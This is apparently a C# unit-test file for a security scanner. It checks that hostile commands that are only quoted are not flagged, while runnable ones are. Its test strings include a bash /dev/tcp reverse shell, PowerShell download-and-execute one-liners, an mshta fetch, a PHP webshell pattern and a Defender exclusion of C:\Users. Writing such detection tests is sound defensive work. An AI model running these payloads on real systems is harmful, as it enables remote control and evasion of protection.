using ScanHost.Formats.Containers;
using ScanHost.Pipeline.Tests.Doubles;

namespace ScanHost.Pipeline.Tests.Audit;

/// <summary>A command that a text mentions is no behaviour: nothing in the file can run it. The same command where something can run it is.</summary>
public sealed class QuotedCommandTests
{
    private const string ReverseShell = "bash -i >& /dev/tcp/192.0.2.1/4444 0>&1";

    [Theory]
    [InlineData("test_scanner.py", "import pytest\nLINES = [\"" + ReverseShell + "\"]\ndef test_lines():\n    assert classify(LINES[0]) == \"hostile\"\n", "sh.revshell")]
    [InlineData("rule.yml", "title: Run dialog\ndetection:\n  selection:\n    Details|contains: ['powershell -w hidden', 'iex(', 'iwr http', 'curl ']\n", "ps.hidden")]
    [InlineData("report.txt", "Stage 1 decodes to:\n\n    new ActiveXObject(\"WScript[.]Shell\")[.]Run(\"powershell -w hidden iwr hxxps://c2[.]invalid/a -o a.exe\")\n", "ps.hidden")]
    [InlineData("client.sh", "#!/bin/bash\nexec 7<>/dev/tcp/demo.invalid/42912\necho \"$key\" >&7\nread -r answer <&7\n$sudo sh -c 'cat > /etc/demo.conf'\n", "sh.revshell")]
    [InlineData("public.php", "<?php\n$method = $_REQUEST['op'];\nif ($method && method_exists($handler, $method)) { $handler->$method(); }\n", "php.webshell_eval")]
    [InlineData("notes.txt", "Notes on the exercise\n\n- first stage: a macro runs\n    powershell -nop -w hidden -c \"IEX (New-Object Net.WebClient).DownloadString('http://192.0.2.1/a')\"\n- second stage switches protection off\n- persistence: a value below Run\n", "ps.iex_download")]
    [InlineData("monitor.js", "var sh = new ActiveXObject('WScript.Shell');\nvar code = sh.Run('ping -n 1 ' + host, 0, true);\n", "js.wsh")]
    [InlineData("Set-Exclusions.ps1", "foreach ($p in 'D:\\SQLData', 'E:\\SQLLogs') { Add-MpPreference -ExclusionPath $p }\nforeach ($x in '.mdf', '.ldf') { Add-MpPreference -ExclusionExtension $x }\n", "ps.defender")]
    public async Task What_is_only_mentioned_does_not_count(string name, string text, string id) => (await IdsAsync(name, text)).Should().NotContain(id);

    [Theory]
    [InlineData("run.py", "import os\nos.system(\"" + ReverseShell + "\")\n", "sh.revshell")]
    [InlineData("step.yml", "jobs:\n  a:\n    steps:\n      - run: " + ReverseShell + "\n", "sh.revshell")]
    [InlineData("client.sh", "#!/bin/bash\nexec 7<>/dev/tcp/192.0.2.1/4444\nsh <&7 >&7 2>&7\n", "sh.revshell")]
    [InlineData("client.sh", "#!/bin/bash\nexec 7<>/dev/tcp/192.0.2.1/4444\ncat <&7 | bash\n", "sh.revshell")]
    [InlineData("public.php", "<?php\n$method = $_REQUEST['op'];\n$method($_REQUEST['x']);\n", "php.webshell_eval")]
    [InlineData("notes.txt", "# - first stage: a macro runs\n# - second stage switches protection off\n# - persistence: a value below Run\nIEX (New-Object Net.WebClient).DownloadString('http://192.0.2.1/a')\n", "ps.iex_download")]
    [InlineData("start.js", "var sh = new ActiveXObject('WScript.Shell');\nsh.Run('ping -n 1 a & mshta https://host.invalid/', 0);\n", "js.wsh")]
    [InlineData("Set-Exclusions.ps1", "foreach ($p in 'C:\\Users', 'E:\\SQLLogs') { Add-MpPreference -ExclusionPath $p }\n", "ps.defender")]
    public async Task What_can_run_counts(string name, string text, string id) => (await IdsAsync(name, text)).Should().Contain(id);

    private static async Task<string[]> IdsAsync(string name, string text)
    {
        using var scans = new Scans { Readers = ContainerReaders.All };
        return [.. (await scans.ScanAsync(System.Text.Encoding.UTF8.GetBytes(text), name)).Findings.Select(finding => finding.Id)];
    }
}
